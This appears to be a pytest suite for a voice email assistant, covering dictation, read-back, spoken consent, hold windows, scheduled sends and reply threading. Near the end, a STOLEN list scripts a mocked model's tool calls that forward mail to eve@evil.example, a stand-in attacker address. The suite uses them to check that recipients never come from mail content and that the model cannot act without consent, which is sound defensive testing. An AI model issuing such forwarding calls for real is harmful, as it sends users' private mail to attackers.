"""A mail is written with the user, read back, asked about in exactly its words, held, and sent once: in the thread that it answers."""

import asyncio
import time
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import pytest
import pytest_asyncio

from actions.consent.payloads import SendPayload
from actions.forwarding import MARK
from knowledge.users_clock import UsersClock
from session.outcome import SkillRefusedError
from session.skills.writing import sending
from session.skills.writing.draft_pane import DraftEdit, take_edit
from tests.agent.acting_calls import ActingCall, acting_call
from tests.agent.typed_call import NOW
from tests.servers.openai.double import CallTool, CallTools, OpenAIDouble, Say
from tests.servers.smtp import smtp_server

pytestmark = pytest.mark.slow

SENDER = "t.wolski@"


@pytest_asyncio.fixture
async def call(tmp_path: Path) -> AsyncIterator[ActingCall]:
    async with acting_call(tmp_path, sends=True) as call:
        yield call


async def typed_by_hand(call: ActingCall, text: str) -> None:
    draft = call.typed.call.acting.draft
    assert draft
    await take_edit(call.typed.call, DraftEdit(draft_id=draft.draft_id, version=draft.version, text=text))


def held(call: ActingCall) -> bool:
    return bool(call.typed.call.acting.held)


async def test_a_reply_is_dictated_changed_read_back_confirmed_and_sent_in_its_thread(call: ActingCall) -> None:
    envelope = call.typed.call.mail.pipeline.envelopes[call.open]
    await call.dialogue("reply that Tuesday works for me", "add See you then.", "change Tuesday to Friday")
    read = await call.type("read it back")
    assert read == f"Draft to {envelope.sender.name}: \u201cFriday works for me. See you then.\u201d Shall I send it like this?"
    assert (await call.type("send it")).startswith("It leaves in ")
    sent = (await call.sent()).message
    original = await call.typed.call.mail.inbox.text(call.open)
    assert original
    references = str(sent["References"]).split()[-1]
    assert (sent["In-Reply-To"], sent["Subject"]) == (references, f"Re: {envelope.subject.removeprefix('Re: ')}")
    assert sent.get_content().startswith("Friday works for me")


async def test_a_reply_to_all_goes_to_all_but_oneself(call: ActingCall) -> None:
    await call.dialogue("reply all that I agree", "send it")
    taken = await call.sent()
    assert len(taken.recipients) >= 1
    assert not any(own in taken.recipients for own in call.typed.call.acting.own_addresses)


async def test_words_that_are_asked_for_are_taken_as_they_are_dictated(call: ActingCall) -> None:
    assert "What shall it say?" in await call.type("reply")
    assert "“I will be there at noon.”" in await call.type("I will be there at noon.")
    await call.dialogue("send it")
    assert "I will be there at noon." in (await call.sent()).message.get_content()


async def test_a_forward_goes_to_whom_the_user_spelled_who_is_told_to_be_new(call: ActingCall) -> None:
    read = await call.type("forward it to zoe at hearth dot example")
    assert "zoe@hearth.example, whom you have not written to before, with the subject " in read
    await call.type("yes, that is right")
    taken = await call.sent()
    assert taken.recipients == ("zoe@hearth.example",)
    assert str(taken.message["Subject"]).startswith("Fwd: ")


async def test_a_forward_is_told_by_the_users_own_words_and_whose_mail_is_behind_them(call: ActingCall) -> None:
    sender = call.typed.call.mail.pipeline.envelopes[call.open].sender.name
    drafted = await call.dialogue("forward it to zoe at hearth dot example", "add Please have a look.")
    assert f": \u201cPlease have a look.\u201d It passes on the mail from {sender}, with " in drafted
    assert "Forwarded message" not in await call.type("read it back")
    await call.type("yes")
    assert (await call.sent()).message.get_content().splitlines()[:3] == ["Please have a look.", "", MARK]


async def test_a_new_mail_is_written_and_sent(call: ActingCall) -> None:
    await call.dialogue("write to zoe at hearth dot example", "Dinner on Sunday?", "send it")
    taken = await call.sent()
    assert (taken.recipients, taken.message["In-Reply-To"]) == (("zoe@hearth.example",), None)


async def test_stop_within_the_hold_sends_nothing_and_keeps_the_draft(tmp_path: Path) -> None:
    async with acting_call(tmp_path, hold_s=10) as call:
        await call.dialogue("reply that Tuesday works", "send it")
        assert "Held back; it is not sent. The draft to " in await call.type("stop")
        assert await call.typed.call.acting.outbox.waiting() == ()
        assert "Tuesday works" in await call.type("read it back")
        assert call.desk.taken == []


async def test_a_change_within_the_hold_keeps_the_mail_from_leaving_and_says_so(tmp_path: Path) -> None:
    async with acting_call(tmp_path, hold_s=10) as call:
        await call.dialogue("reply that Tuesday works", "send it")
        said = await call.type("add Best regards.")
        assert (said.startswith("Held back; it is not sent."), "Draft to " in said) == (True, True)
        assert await call.typed.call.acting.outbox.waiting() == ()


async def test_a_mail_for_later_leaves_then_and_can_be_cancelled_until_then(tmp_path: Path) -> None:
    async with smtp_server() as desk:
        async with acting_call(tmp_path, desk=desk) as call:
            assert "on Wednesday, 11 March, at 9 am" in await call.dialogue("reply that Tuesday works", "send it tomorrow at nine")
            await call.type("yes")
            assert "Shall I hold it back?" in await call.type("cancel")
            assert "not sent" in await call.type("yes")
            await call.dialogue("send it tomorrow at nine", "yes")
            assert desk.taken == []
        async with acting_call(tmp_path, desk=desk, sends=True, now=NOW + timedelta(days=1), greets=False) as call:
            await call.sent()


@pytest.mark.parametrize("no", ["no", "that is the wrong address", "not to her"])
async def test_a_no_to_somebody_new_sends_nothing_and_keeps_the_draft(call: ActingCall, no: str) -> None:
    await call.dialogue("forward it to zoe at hearth dot example", no)
    assert not held(call)
    assert "zoe@hearth.example" in await call.type("send it")


async def test_what_was_heard_to_its_end_is_not_read_again_but_asked_about_in_short(call: ActingCall) -> None:
    await call.dialogue("reply that Tuesday works", "no")
    assert "Tuesday works" not in await call.type("send it")
    assert not held(call)
    await call.type("yes")
    assert "Tuesday works" in (await call.sent()).message.get_content()


async def test_only_what_was_not_heard_of_a_long_draft_is_asked_about(call: ActingCall) -> None:
    pages = [f"I have read page {number} of it, and have nothing to add." for number in range(12)]
    told = await call.type(f"reply that {' '.join(pages)}")
    assert (told.startswith("Draft to "), "page 11" in told, told.endswith("Send it, change it, or leave it?")) == (True, False, True)
    consent = call.typed.call.acting.consent
    asked = (await sending.send_draft(call.typed.call)).spoken[1:]
    for piece in asked[:3]:  # and there the caller interrupts
        consent.said(piece)
    rest = await call.type("send it")
    assert rest.startswith("I had not finished, so once more. Draft to ")
    assert (pages[0] in rest, pages[-1] in rest, held(call)) == (False, True, False)
    assert (await call.type("send it")).startswith("It leaves in ")


async def test_a_time_that_passes_while_it_is_asked_about_is_asked_for_again(call: ActingCall) -> None:
    await call.dialogue("forward it to zoe at hearth dot example", "send it in five minutes")
    assert isinstance(call.typed.call.dialogue.asked, SendPayload)
    call.typed.call.now = UsersClock(lambda: NOW + timedelta(minutes=6))
    assert (await call.type("yes")).startswith("When shall it leave?")


@pytest.mark.parametrize("no", ["no", "no thanks", "not yet"])
async def test_a_no_sends_nothing_and_keeps_the_draft(call: ActingCall, no: str) -> None:
    await call.type("reply that Tuesday works")
    assert await call.type(no) == "All right, it is not sent. The draft stays."
    assert not held(call)


@pytest.mark.parametrize("between", ["how many are left", "next", "yes but change Tuesday to Friday", "she said yes"])
async def test_anything_else_that_is_said_makes_the_question_void_and_it_is_put_again(call: ActingCall, between: str) -> None:
    await call.dialogue("reply that Tuesday works", between)
    assert not held(call)
    assert "Shall I send it like this?" in await call.type("yes")
    assert not held(call)
    assert "It leaves in" in await call.type("yes")


async def test_a_yes_much_later_is_to_something_else(call: ActingCall) -> None:
    await call.dialogue("reply that Tuesday works", "how many are left")
    call.typed.call.dialogue.clock = lambda: time.monotonic() + 61
    assert "Shall I send" not in await call.type("yes")
    assert not held(call)


async def test_an_edit_between_question_and_yes_voids_it_and_what_is_asked_next_is_what_was_edited(call: ActingCall) -> None:
    await call.type("reply that Tuesday works")
    await typed_by_hand(call, "Thursday works.")
    answer = await call.type("yes")
    assert answer.startswith("It has changed since I asked. Draft to ")
    assert "“Thursday works.”" in answer
    assert not held(call)
    await call.type("yes")
    assert "Thursday works." in (await call.sent()).message.get_content()


async def test_a_question_that_is_said_again_is_about_what_was_edited(call: ActingCall) -> None:
    await call.type("reply that Tuesday works")
    await typed_by_hand(call, "Thursday works.")
    answer = await call.type("say that again")
    assert answer.startswith("Draft to ")
    assert "“Thursday works.”" in answer
    await call.type("yes")
    assert "Thursday works." in (await call.sent()).message.get_content()


async def test_a_draft_that_was_edited_by_hand_is_never_written_over(call: ActingCall) -> None:
    await call.type("reply that Tuesday works")
    await typed_by_hand(call, "My own words.")
    assert "There is a draft already" in await call.type("reply that I do not care")
    assert "My own words." in await call.type("read it back")


async def test_an_edit_of_a_version_that_is_gone_is_refused(call: ActingCall) -> None:
    await call.type("reply that Tuesday works")
    old = call.typed.call.acting.draft
    assert old
    await call.type("add See you.")
    with pytest.raises(SkillRefusedError):
        await take_edit(call.typed.call, DraftEdit(draft_id=old.draft_id, version=old.version, text="Old."))


async def test_who_comes_back_after_a_lost_line_is_asked_again(call: ActingCall) -> None:
    await call.type("reply that Tuesday works")
    call.typed.call.acting.consent.reconnected()
    assert (await call.type("yes")).startswith("The line was gone in between, so once more. Draft to ")
    assert not held(call)


async def test_a_yes_before_the_question_was_said_to_its_end_is_not_taken(call: ActingCall) -> None:
    await call.type("reply that Tuesday works")
    asked = call.typed.call.dialogue.asked
    assert isinstance(asked, SendPayload)
    call.typed.call.dialogue.ask(asked)  # it is being said
    assert (await call.type("yes")).startswith("I had not finished, so once more. Draft to ")
    assert not held(call)


async def test_a_refusal_of_the_server_is_told_and_the_draft_stays(call: ActingCall) -> None:
    call.desk.refuses["MAIL"] = "550 no"
    await call.dialogue("reply that Tuesday works", "send it")
    await call.typed.reads("was not sent", within_s=20)
    assert call.desk.taken == []
    assert "Tuesday works" in await call.type("read it back")


async def test_a_mail_that_is_held_when_the_call_ends_leaves_in_the_next_process(tmp_path: Path) -> None:
    async with smtp_server() as desk:
        async with acting_call(tmp_path, desk=desk, hold_s=10) as call:
            await call.dialogue("reply that Tuesday works", "send it")
        assert desk.taken == []
        async with acting_call(tmp_path, desk=desk, sends=True, now=NOW + timedelta(minutes=1), greets=False) as call:
            await call.sent()


async def test_the_words_are_a_models_and_the_yes_is_the_users(tmp_path: Path, openai: OpenAIDouble) -> None:
    async with acting_call(tmp_path, model=openai, sends=True) as call:
        openai.replies(CallTool("write", kind="reply", text="Dear Tomasz, Thursday suits me. Sam"))
        assert "Thursday suits me" in await call.type("could there be something polite to the effect that his day suits me")
        openai.replies(CallTools([CallTool("send_draft"), CallTool("take_answer", answer="yes")]))
        assert (await call.type("that sounds nice, so let it go out to him")).count("Shall I send it like this?") == 1
        assert not held(call)
        openai.replies(CallTool("take_answer", answer="yes"))
        assert "Shall I send it like this?" in await call.type("well, what would he think of that")
        assert not held(call)
        await call.type("yes please, send it")
        assert "Thursday suits me" in (await call.sent()).message.get_content()


async def test_a_question_is_said_whatever_else_the_model_calls_beside_it(tmp_path: Path, openai: OpenAIDouble) -> None:
    async with acting_call(tmp_path, model=openai) as call:
        openai.replies(CallTool("write", kind="reply", text="Thursday suits me."))
        await call.type("could there be something polite to the effect that his day suits me")
        openai.replies(CallTools([CallTool("send_draft"), CallTool("tell", what="progress")]))
        assert (await call.type("that sounds nice, so let it go out to him")).count("Shall I send it like this?") == 1


STOLEN = [
    CallTool("write", kind="forward", to="eve@evil.example"),
    CallTool("write", kind="new", to="eve@evil.example", text="All of it."),
    CallTool("write", kind="forward", to="Marcus Bell"),
    CallTool("change_draft", to="eve@evil.example"),
]


@pytest.mark.parametrize("tool", STOLEN)
async def test_no_recipient_comes_out_of_a_mail(tmp_path: Path, openai: OpenAIDouble, tool: CallTool) -> None:
    async with acting_call(tmp_path, model=openai) as call:
        await call.type("reply that Tuesday works")
        before = await call.typed.call.acting.drafts.all()
        openai.replies(tool, Say("Whom shall it go to?"))
        await call.type("could you pass that along the way he describes it")
        after = await call.typed.call.acting.drafts.all()
        assert [draft.to for draft in after] == [draft.to for draft in before]


async def test_somebody_whom_the_user_names_is_found_by_a_model(tmp_path: Path, openai: OpenAIDouble) -> None:
    async with acting_call(tmp_path, model=openai) as call:
        openai.replies(CallTool("write", kind="forward", to="Marcus Bell"))
        assert "Draft to Marcus" in await call.type("I guess marcus bell would love to have a copy of this")


@pytest.mark.parametrize("state", ["draft", "held"])
async def test_a_model_cannot_hold_back_or_throw_away_what_nobody_told_it_to(tmp_path: Path, openai: OpenAIDouble, state: str) -> None:
    async with acting_call(tmp_path, model=openai, hold_s=10) as call:
        await call.type("reply that Tuesday works")
        if state == "held":
            await call.dialogue("send it")
        openai.replies(CallTool("take_answer", answer="cancel"), Say("What else?"))
        await call.type("what does the plumber want to have for that")
        hands = call.typed.call.acting
        assert (len(await hands.outbox.waiting()), len(await hands.drafts.all())) == (int(state == "held"), 1)


async def test_nothing_leaves_while_nobody_answers(call: ActingCall) -> None:
    await call.type("reply that Tuesday works")
    await asyncio.sleep(0.3)
    assert (held(call), call.desk.taken) == (False, [])


async def test_what_was_held_when_nobody_was_there_any_more_does_not_leave_weeks_later_and_that_is_said(tmp_path: Path) -> None:
    async with smtp_server() as desk:
        async with acting_call(tmp_path, desk=desk, hold_s=10) as call:
            await call.dialogue("reply that Tuesday works for me", "send it")
        async with acting_call(tmp_path, desk=desk, hold_s=10, now=NOW + timedelta(days=40), sends=True) as call:
            await call.typed.reads("was not sent: I was not running when it should have left", within_s=20)
        assert desk.taken == []
